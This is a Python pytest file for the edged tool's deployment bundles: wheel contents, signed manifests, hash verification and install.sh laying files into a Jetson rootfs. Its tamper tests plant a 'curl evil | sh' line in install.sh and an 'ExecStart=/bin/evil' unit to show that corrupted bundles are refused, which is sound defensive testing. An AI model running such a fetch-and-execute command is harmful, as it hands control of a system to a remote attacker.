"""edged bundle build: the host and Jetson bundles as files (what they hold, that the hashes and the
signature hold), and install.sh --root laying one into a rootfs without running anything there.
(tests/test_nspawn.py installs the host bundle onto a running systemd.)"""

from __future__ import annotations

import io
import json
import os
import re
import shlex
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from edged.models.signing import TrustStore, generate_key
from tests.conftest import REPO, build_bundle, edged_cli
from tests.sysfs_fixtures import L4T_R35_4_1, L4T_R36_4_0

# one worker builds the Jetson bundle (a module fixture) once for all of them under pytest-xdist
pytestmark = pytest.mark.xdist_group("bundle")


@pytest.fixture(scope="module")
def jetson_bundle(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from edged.models.demo import fetch_demo

    tmp = tmp_path_factory.mktemp("bundle")
    key, _ = generate_key(tmp / "keys")
    demo = fetch_demo()
    r = edged_cli(
        "model", "pack", str(demo.packages["blazeface-back"].root), "--out", str(tmp / "faces-1.tar"), "--key", str(key)
    )
    assert r.returncode == 0, r.stderr
    bundle = build_bundle("jetson-jp6", tmp / "keys", tmp / "faces-1.tar", key, tmp / "out")
    return bundle, tmp / "keys"


def test_the_edged_wheel_holds_the_source_and_no_build_leftovers(jetson_bundle: tuple[Path, Path]) -> None:
    """Exactly the checkout's modules: setuptools reuses a checkout's build/lib, where modules since moved or
    deleted linger (a developer's checkout had edged/cli.py and daemon/trt.py there), so the wheel is built
    from a copy without build outputs."""
    import io
    import zipfile

    bundle, _ = jetson_bundle
    with tarfile.open(bundle) as tar:
        name = next(n for n in tar.getnames() if Path(n).name.startswith("edged-") and n.endswith(".whl"))
        data = tar.extractfile(name).read()  # type: ignore[union-attr]
    modules = {n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.endswith(".py")}
    parts = ("daemon", "models", "quantize", "deploy", "cli", "protocol")
    expected = {f"edged/{p.name}" for p in (REPO / "edged").glob("*.py")} | {
        f"edged/{py.relative_to(REPO)}" for part in parts for py in (REPO / part).rglob("*.py")
    }
    assert modules == expected, (sorted(modules - expected), sorted(expected - modules))


def test_the_wheel_source_leaves_build_outputs_behind(tmp_path: Path) -> None:
    from edged.deploy.bundle import clean_source

    repo = tmp_path / "repo"
    for rel in ("pyproject.toml", "daemon/app.py", "build/lib/edged/gone.py", ".venv/bin/python", "x.egg-info/PKG"):
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text("x\n")
    src = clean_source(repo, tmp_path / "copy")
    found = sorted(str(p.relative_to(src)) for p in src.rglob("*") if p.is_file())
    assert found == ["daemon/app.py", "pyproject.toml"], found


def test_jetson_bundle_has_aarch64_cp310_wheels_and_no_pip_opencv(jetson_bundle: tuple[Path, Path]) -> None:
    bundle, _ = jetson_bundle
    with tarfile.open(bundle) as tar:
        names = tar.getnames()
        manifest = json.load(tar.extractfile("edged-bundle/bundle.json"))  # type: ignore[arg-type]
    wheels = [Path(n).name for n in names if n.startswith("edged-bundle/wheels/") and n.endswith(".whl")]
    assert manifest["target"] == "jetson-jp6" and manifest["python"] == "cp310"
    compiled = [w for w in wheels if not w.endswith("-none-any.whl")]
    assert {"numpy", "onnxruntime", "pydantic_core", "cryptography", "pyyaml"} <= {w.split("-")[0] for w in wheels}
    for w in compiled:
        assert "aarch64" in w and ("-cp310-" in w or "-abi3-" in w), w
    assert not [w for w in wheels if w.startswith("opencv")]  # JetPack's OpenCV (GStreamer) is used
    numpy = [w for w in wheels if w.startswith("numpy-")]
    assert len(numpy) == 1 and numpy[0].startswith("numpy-1."), numpy  # JetPack's cv2 and TensorRT need 1.x
    with tarfile.open(bundle) as tar:
        reqs = tar.extractfile("edged-bundle/requirements.txt").read().decode().split()  # type: ignore[union-attr]
    assert "numpy<2,>=1.24" in reqs or "numpy>=1.24,<2" in reqs, reqs
    assert not [r for r in reqs if r.startswith(("opencv", "pycuda"))], reqs
    # the TensorRT backend's CUDA binding: cuda-python's aarch64 cp310 wheel (and cuda-pathfinder, pure Python),
    # installed with requirements.txt; no pycuda source, so nothing compiles on the device
    cuda = [w for w in wheels if w.startswith("cuda_bindings-")]
    assert len(cuda) == 1 and cuda[0].startswith("cuda_bindings-12.") and "-cp310-cp310-" in cuda[0], cuda
    assert "aarch64" in cuda[0] and "cuda_pathfinder" in {w.split("-")[0] for w in wheels}, wheels
    assert "cuda-bindings<13,>=12.6" in reqs or "cuda-bindings>=12.6,<13" in reqs, reqs
    assert not [n for n in names if n.startswith("edged-bundle/wheels/") and not n.endswith(".whl")], names
    assert manifest["machine"] == "aarch64"
    for part in (
        "install.sh",
        "firstboot.sh",
        "systemd/edged.service",
        "systemd/devices/l4t-r36.conf",
        "config/edged.yaml",
        "models/faces-1.tar",
        "SHA256SUMS",
        "bundle.sig",
    ):
        assert f"edged-bundle/{part}" in names, part


def test_the_bundles_cuda_binding_is_pyprojects_tensorrt_extra() -> None:
    """The bundle names cuda-python itself (edged's installed metadata is as old as its last `pip install -e .`):
    it must be what pyproject.toml's `tensorrt` extra says the TensorRT backend needs."""
    from edged.deploy.bundle import CUDA_PYTHON, requirements

    # pyproject's one-line list (no tomllib on Python 3.10)
    found = re.search(r"^tensorrt = (\[.*\])$", (REPO / "pyproject.toml").read_text(), re.M)
    assert found and json.loads(found.group(1)) == [CUDA_PYTHON], found
    assert CUDA_PYTHON in requirements("jetson-jp6") and CUDA_PYTHON not in requirements("host")


def test_a_wheelhouse_pycuda_built_on_a_device_is_carried_with_its_dependencies(tmp_path: Path) -> None:
    """`--wheelhouse DIR` with a pycuda wheel built on a Jetson (tagged linux_aarch64: no manylinux tag) goes
    into a jetson bundle's wheels/ with what it requires from PyPI, so the first boot can install it offline.
    The wheel here is a stand-in with pycuda's name and tag (building the real one needs a device's CUDA)."""
    import zipfile

    from edged.deploy.bundle import _wheels

    house = tmp_path / "house"
    house.mkdir()
    name = "pycuda-2024.1.2-cp310-cp310-linux_aarch64.whl"
    meta = "Metadata-Version: 2.1\nName: pycuda\nVersion: 2024.1.2\nRequires-Dist: platformdirs>=2.2.0\n"
    wheel = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: false\nTag: cp310-cp310-linux_aarch64\n"
    with zipfile.ZipFile(house / name, "w") as z:
        z.writestr("pycuda/__init__.py", "")
        z.writestr("pycuda-2024.1.2.dist-info/METADATA", meta)
        z.writestr("pycuda-2024.1.2.dist-info/WHEEL", wheel)
        z.writestr("pycuda-2024.1.2.dist-info/RECORD", "")
    dest = tmp_path / "wheels"
    dest.mkdir()
    said: list[str] = []
    _wheels("jetson-jp6", [], dest, house, said.append, "aarch64")
    found = sorted(p.name for p in dest.iterdir())
    assert name in found and [w for w in found if w.startswith("platformdirs-")], found
    assert not [w for w in found if w.endswith(".tar.gz")], found  # a wheel, not pycuda's source
    assert any("pycuda: the prebuilt wheel from --wheelhouse" in m for m in said), said


def test_the_bundle_carries_gpu_check_and_everything_it_installs(
    jetson_bundle: tuple[Path, Path], tmp_path: Path
) -> None:
    """scripts/gpu-check.sh runs offline from an unpacked bundle: check/ holds the script and the tests it runs,
    and wheels/ resolves what the script installs there, as edged-firstboot does (requirements.txt, then the
    edged wheel without deps, cuda-python among them), plus its CHECK_REQS for the device's CPython 3.10 on
    aarch64, with no index and no other wheels."""
    from edged.deploy.bundle import GPU_CHECK, JETSON_MANYLINUX

    bundle, _ = jetson_bundle
    with tarfile.open(bundle) as tar:
        tar.extractall(tmp_path, filter="data")
    root = tmp_path / "edged-bundle"
    for rel in ("gpu-check.sh", "pyproject.toml", "tests/__init__.py", "tests/conftest.py", "tests/test_tensorrt.py"):
        assert (root / "check" / rel).is_file(), rel
    found = re.search(r"^CHECK_REQS=\((.*)\)$", (root / "check" / "gpu-check.sh").read_text(), re.M)
    assert found and tuple(shlex.split(found.group(1))) == GPU_CHECK  # what the script installs, the bundle carries
    plats = [a for p in JETSON_MANYLINUX for a in ("--platform", f"{p}_aarch64")]
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    pip = [sys.executable, "-m", "pip", "install", "--dry-run", "--no-index", "--find-links", str(root / "wheels")]
    device = ["--only-binary", ":all:", *plats, "--python-version", "3.10", "--implementation", "cp"]
    r = subprocess.run(
        [*pip, *device, "--target", str(tmp_path / "target"), "-r", str(root / "requirements.txt"), *GPU_CHECK],
        capture_output=True,
        text=True,
        timeout=300,
        env={**env, "PIP_CONFIG_FILE": os.devnull},  # this machine's pip config adds its own wheel folders
    )
    assert r.returncode == 0, r.stdout[-1500:] + r.stderr[-1500:]
    assert re.search(r"Would install .*\bpytest-\d", r.stdout) and "pytest-xdist" in r.stdout, r.stdout[-1500:]
    assert re.search(r"Would install .*\bcuda-bindings-12\.", r.stdout), r.stdout[-1500:]


def test_bundle_manifest_hashes_and_signature(jetson_bundle: tuple[Path, Path], tmp_path: Path) -> None:
    bundle, keys = jetson_bundle
    with tarfile.open(bundle) as tar:
        tar.extractall(tmp_path, filter="data")
    root = tmp_path / "edged-bundle"
    manifest_bytes = (root / "bundle.json").read_bytes()
    TrustStore.load(keys).verify(manifest_bytes, (root / "bundle.sig").read_bytes(), str(bundle))
    import hashlib

    for rel, entry in json.loads(manifest_bytes)["files"].items():
        assert hashlib.sha256((root / rel).read_bytes()).hexdigest() == entry["sha256"], rel


def test_jp5_is_refused_with_the_reason(tmp_path: Path) -> None:
    """Not offered (the help lists what can be built), and refused with the reason when asked for."""
    generate_key(tmp_path / "keys")
    r = edged_cli("bundle", "build", "--target", "jetson-jp5", "--keys", str(tmp_path / "keys"))
    assert r.returncode == 2 and "argument --target: jetson-jp5: JetPack 5 ships Python 3.8" in r.stderr, r.stderr
    assert "--target jetson-jp6" in r.stderr
    usage = edged_cli("bundle", "build", "--help").stdout
    assert "{host,jetson-jp6}" in usage and "jp5" not in usage, usage
    r = edged_cli("bundle", "build", "--target", "jetson", "--keys", str(tmp_path / "keys"))
    assert r.returncode == 2 and "invalid choice: 'jetson' (choose from" in r.stderr, r.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="install.sh runs as root")
def test_install_root_lays_the_bundle_into_a_rootfs(jetson_bundle: tuple[Path, Path], tmp_path: Path) -> None:
    bundle, _ = jetson_bundle
    with tarfile.open(bundle) as tar:
        tar.extractall(tmp_path / "b", filter="data")
    install = tmp_path / "b/edged-bundle/install.sh"
    rootfs = tmp_path / "Linux_for_Tegra/rootfs"
    (rootfs / "etc").mkdir(parents=True)
    (rootfs / "etc/nv_tegra_release").write_text(L4T_R36_4_0 + "\n")
    (rootfs / "usr/bin").mkdir(parents=True)
    (rootfs / "usr/bin/python3.10").write_text("")  # JetPack 6's Python (Ubuntu 22.04)
    r = subprocess.run(["bash", str(install), "--root", str(rootfs)], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stdout + r.stderr
    etc = rootfs / "etc"
    assert (etc / "systemd/system/edged.service").is_file()
    assert (etc / "systemd/system/edged.service.d/devices.conf").read_text().count("/dev/nvgpu/igpu0/") > 5
    wants = etc / "systemd/system/multi-user.target.wants"
    # edged.service is enabled by the first boot once `edged doctor` passes there, not before
    assert not (wants / "edged.service").exists()
    assert os.readlink(wants / "edged-firstboot.service") == "/etc/systemd/system/edged-firstboot.service"
    assert "firstboot.sh --enable" in (etc / "systemd/system/edged-firstboot.service").read_text()
    assert "device_id: FIRSTBOOT-HOSTNAME" in (etc / "edged/edged.yaml").read_text()
    assert list((etc / "edged/keys").glob("*.pub"))
    assert (rootfs / "usr/lib/sysusers.d/edged.conf").is_file()
    assert (rootfs / "usr/share/man/man1/edged.1").read_text().startswith('.\\" generated')  # man edged
    assert (rootfs / "opt/edged/docs/operator.md").is_file()  # the unit's Documentation=
    assert len(list((rootfs / "opt/edged/wheels").glob("*aarch64*.whl"))) >= 5
    assert not (rootfs / "opt/edged/venv").exists()  # nothing was run for the target
    # an upgrade keeps the device's config
    (etc / "edged/edged.yaml").write_text((etc / "edged/edged.yaml").read_text() + "# edited on the device\n")
    r = subprocess.run(["bash", str(install), "--root", str(rootfs)], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and "kept" in r.stdout
    assert "# edited on the device" in (etc / "edged/edged.yaml").read_text()
    # a corrupted bundle is refused before anything is written
    (tmp_path / "b/edged-bundle/systemd/edged.service").write_text("[Service]\nExecStart=/bin/evil\n")
    r = subprocess.run(["bash", str(install), "--root", str(tmp_path / "other")], capture_output=True, text=True)
    assert r.returncode == 1 and "corrupt" in r.stderr and not (tmp_path / "other").exists()
    # --uninstall removes what it installed, and nothing else
    (rootfs / "etc/hostname").write_text("keep-me\n")
    r = subprocess.run(["bash", str(install), "--root", str(rootfs), "--uninstall"], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert not (etc / "systemd/system/edged.service").exists() and not (rootfs / "opt/edged").exists()
    assert not (wants / "edged.service").exists() and not (rootfs / "usr/lib/sysusers.d/edged.conf").exists()
    assert not (rootfs / "usr/share/man/man1/edged.1").exists()
    assert (etc / "edged/edged.yaml").is_file() and (rootfs / "etc/hostname").read_text() == "keep-me\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="install.sh runs as root")
def test_install_says_when_the_system_lacks_python3_systemd(jetson_bundle: tuple[Path, Path], tmp_path: Path) -> None:
    """Without python3-systemd the daemon's logs reach the journal without priority or fields: a rootfs that
    lacks it is told how to add it (nothing runs for the target); one that has it hears nothing."""
    bundle, _ = jetson_bundle
    with tarfile.open(bundle) as tar:
        tar.extractall(tmp_path / "b", filter="data")
    install = tmp_path / "b/edged-bundle/install.sh"
    rootfs = tmp_path / "rootfs"
    (rootfs / "etc").mkdir(parents=True)
    (rootfs / "etc/nv_tegra_release").write_text(L4T_R36_4_0 + "\n")
    (rootfs / "usr/bin").mkdir(parents=True)
    (rootfs / "usr/bin/python3.10").write_text("")
    r = subprocess.run(["bash", str(install), "--root", str(rootfs)], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "python3-systemd" in r.stdout and f"chroot {rootfs} apt-get install python3-systemd" in r.stdout, r.stdout
    journal = rootfs / "usr/lib/python3/dist-packages/systemd/journal.py"
    journal.parent.mkdir(parents=True)
    journal.write_text("")
    r = subprocess.run(["bash", str(install), "--root", str(rootfs)], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and "python3-systemd" not in r.stdout, r.stdout


def test_bundle_verify_checks_signature_and_every_file(jetson_bundle: tuple[Path, Path], tmp_path: Path) -> None:
    bundle, keys = jetson_bundle
    r = edged_cli("bundle", "verify", str(bundle), "--keys", str(keys))
    assert r.returncode == 0 and "signature and" in r.stdout and "target jetson-jp6" in r.stdout, r.stderr
    generate_key(tmp_path / "other")
    r = edged_cli("bundle", "verify", str(bundle), "--keys", str(tmp_path / "other"))
    assert r.returncode == 1 and "does not trust" in r.stderr
    # one file swapped inside the tar, bundle.json and its signature untouched
    altered = tmp_path / "altered.tar"
    with tarfile.open(bundle) as src, tarfile.open(altered, "w") as dst:
        for m in src.getmembers():
            f = src.extractfile(m) if m.isfile() else None
            data = f.read() if f else b""
            if m.name == "edged-bundle/install.sh":
                data += b"\ncurl evil | sh\n"
                m.size = len(data)
            dst.addfile(m, io.BytesIO(data) if m.isfile() else None)
    r = edged_cli("bundle", "verify", str(altered), "--keys", str(keys))
    assert r.returncode == 1 and "install.sh does not match bundle.json" in r.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="install.sh runs as root")
def test_install_root_refuses_jetpack5(jetson_bundle: tuple[Path, Path], tmp_path: Path) -> None:
    bundle, _ = jetson_bundle
    with tarfile.open(bundle) as tar:
        tar.extractall(tmp_path / "b", filter="data")
    install = tmp_path / "b/edged-bundle/install.sh"
    jp5 = tmp_path / "jp5"
    (jp5 / "etc").mkdir(parents=True)
    (jp5 / "etc/nv_tegra_release").write_text(L4T_R35_4_1 + "\n")
    r = subprocess.run(["bash", str(install), "--root", str(jp5)], capture_output=True, text=True, timeout=120)
    assert r.returncode == 1 and "L4T R35" in r.stderr and "JetPack 6" in r.stderr, r.stderr
    assert not (jp5 / "opt").exists()
    # no release file, but no Python 3.10 either (a JetPack 5 or other rootfs): refused by its Python
    other = tmp_path / "other"
    (other / "usr/bin").mkdir(parents=True)
    (other / "usr/bin/python3.8").write_text("")
    r = subprocess.run(["bash", str(install), "--root", str(other)], capture_output=True, text=True, timeout=120)
    assert r.returncode == 1 and "no /usr/bin/python3.10" in r.stderr and "Python 3.8" in r.stderr, r.stderr


@pytest.mark.slow
@pytest.mark.start_early(200)  # 62-309 s in CI
@pytest.mark.skipif(os.geteuid() != 0, reason="debootstrap, overlay mounts and chroot need root")
def test_jetson_bundle_in_a_jetpack_layout_rootfs(tmp_path: Path) -> None:
    """The jetson-jp6 recipe installed into Ubuntu 22.04 with JetPack's Python layout (python3-numpy 1.21
    and python3-opencv with GStreamer in dist-packages, no TensorRT, no CUDA, no GPU): `install.sh
    --root`, then the first boot's work in a chroot, offline, then `edged doctor` there. Built for
    x86_64 (`--machine x86_64`), since this machine cannot execute aarch64; the recipe is the same.
    About 3 minutes, plus a few the first time (debootstrap, cached in /var/cache/edged-nspawn)."""
    import urllib.request

    from edged.models.demo import fetch_demo

    cached = Path(os.environ.get("EDGED_NSPAWN_CACHE", "/var/cache/edged-nspawn")) / "rootfs-jammy-jetpack-layout"
    if not (cached / "usr/bin/python3.10").exists():  # the first run debootstraps Ubuntu 22.04 from its archive
        mirror = os.environ.get("UBUNTU_MIRROR", "http://archive.ubuntu.com/ubuntu")
        try:
            urllib.request.urlopen(f"{mirror}/dists/jammy/Release", timeout=15).close()
        except OSError as exc:
            pytest.skip(f"needs Ubuntu 22.04 packages from {mirror} (not reachable here: {exc})")
    r = subprocess.run(
        ["bash", str(REPO / "tests/nspawn/jetpack-rootfs.sh")], capture_output=True, text=True, timeout=1800
    )
    assert r.returncode == 0, r.stderr
    rootfs = Path(r.stdout.strip().splitlines()[-1])
    key, _ = generate_key(tmp_path / "keys")
    demo = fetch_demo()
    r = edged_cli(
        "model",
        "pack",
        str(demo.packages["blazeface-back"].root),
        "--out",
        str(tmp_path / "faces-1.tar"),
        "--key",
        str(key),
    )
    assert r.returncode == 0, r.stderr
    r = edged_cli(
        "bundle", "build", "--target", "jetson-jp6", "--machine", "x86_64", "--keys", str(tmp_path / "keys"),
        "--model", str(tmp_path / "faces-1.tar"), "--key", str(key), "--out", str(tmp_path / "out"), timeout=1200,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr[-2000:]
    with tarfile.open(next((tmp_path / "out").glob("*.tar"))) as tar:
        tar.extractall(tmp_path / "b", filter="data")
    # built for x86_64, it carries cuda-python's x86_64 wheel (the aarch64 one is checked in the default set)
    cuda = [p.name for p in (tmp_path / "b/edged-bundle/wheels").glob("cuda_bindings-*.whl")]
    assert len(cuda) == 1 and "-cp310-cp310-" in cuda[0] and "x86_64" in cuda[0], cuda
    out = tmp_path / "result"
    r = subprocess.run(
        [
            "bash",
            str(REPO / "tests/nspawn/jetpack-install.sh"),
            str(rootfs),
            str(tmp_path / "b/edged-bundle"),
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=1500,
    )
    logs = "\n".join(f"== {p.name}\n{p.read_text()[-3000:]}" for p in sorted(out.glob("*.*")) if p.is_file())
    print(logs)
    assert r.returncode == 0, r.stderr + logs
    assert "laid out into" in (out / "install.log").read_text()
    # the first boot: cuda-python from the bundle's wheel, offline, nothing compiled (no CUDA, no compiler here)
    first = (out / "firstboot.log").read_text()
    assert (out / "firstboot.rc").read_text().strip() == "0", first
    assert "firstboot: cuda-python: cuda-bindings 12." in first, first
    assert "installed from the bundle's wheels (offline; nothing compiled)" in first and "pycuda" not in first, first
    assert "edged can run here" in first and (out / "enabled").exists()
    # cv2 is JetPack's (the system's, with GStreamer), numpy is 1.x; the two work together
    probe = (out / "probe.txt").read_text()
    assert "cv2 4.5.4 /usr/lib/python3/dist-packages/cv2" in probe, probe
    assert "numpy 1." in probe and "cv2 on numpy: (2, 2, 3)" in probe, probe
    # cuda-python in the venv imports without a GPU; its first driver call reports the missing driver
    assert re.search(r"^cuda-bindings /opt/edged/venv/\S+/cuda/bindings/driver", probe, re.M), probe
    assert re.search(r"^cuInit: \S+", probe, re.M), probe
    doc = json.loads((out / "doctor.json").read_text())
    checks = {c["name"]: c for c in doc["checks"]}
    assert (out / "doctor.rc").read_text().strip() == "0" and doc["ok"], doc
    assert checks["python"]["detail"].startswith("Python 3.10.")
    assert checks["numpy"]["status"] == "ok" and checks["numpy"]["detail"].startswith("numpy 1.")
    assert "from the system: /usr/lib/python3/dist-packages/cv2" in checks["opencv"]["detail"], checks["opencv"]
    assert checks["gst-cv2"]["status"] == "ok" and "with GStreamer" in checks["gst-cv2"]["detail"]
    assert checks["gst-nv"]["status"] == "warn" and "nvarguscamerasrc" in checks["gst-nv"]["detail"]
    assert checks["tensorrt"]["status"] == "n/a" and "python3-libnvinfer" in checks["tensorrt"]["fix"]
    assert checks["cuda"]["status"] == "ok" and checks["cuda"]["detail"].startswith("cuda-python 12."), checks["cuda"]
    assert checks["gpu"]["status"] == "warn" and "CUDA cannot start" in checks["gpu"]["detail"], checks["gpu"]
    assert checks["l4t"]["status"] == "ok" and "R36.4.0" in checks["l4t"]["detail"]
    assert checks["model"]["status"] == "ok" and "blazeface-back v1" in checks["model"]["detail"]
    assert checks["state_dir"]["status"] == "ok" and checks["broker"]["status"] == "warn"
    # a model that needs TensorRT: required checks fail, and the first boot leaves edged disabled
    trt = (out / "doctor-trt.txt").read_text()
    assert (out / "doctor-trt.rc").read_text().strip() == "1" and "FAIL tensorrt" in trt, trt
    assert re.search(r"^ok   cuda       cuda-python 12\.", trt, re.M) and "FAIL gpu" in trt, trt
    first = (out / "firstboot-trt.log").read_text()
    assert (out / "firstboot-trt.rc").read_text().strip() == "1" and "FAIL tensorrt" in first, first
    assert "edged.service is NOT enabled" in first and not (out / "enabled-trt").exists()
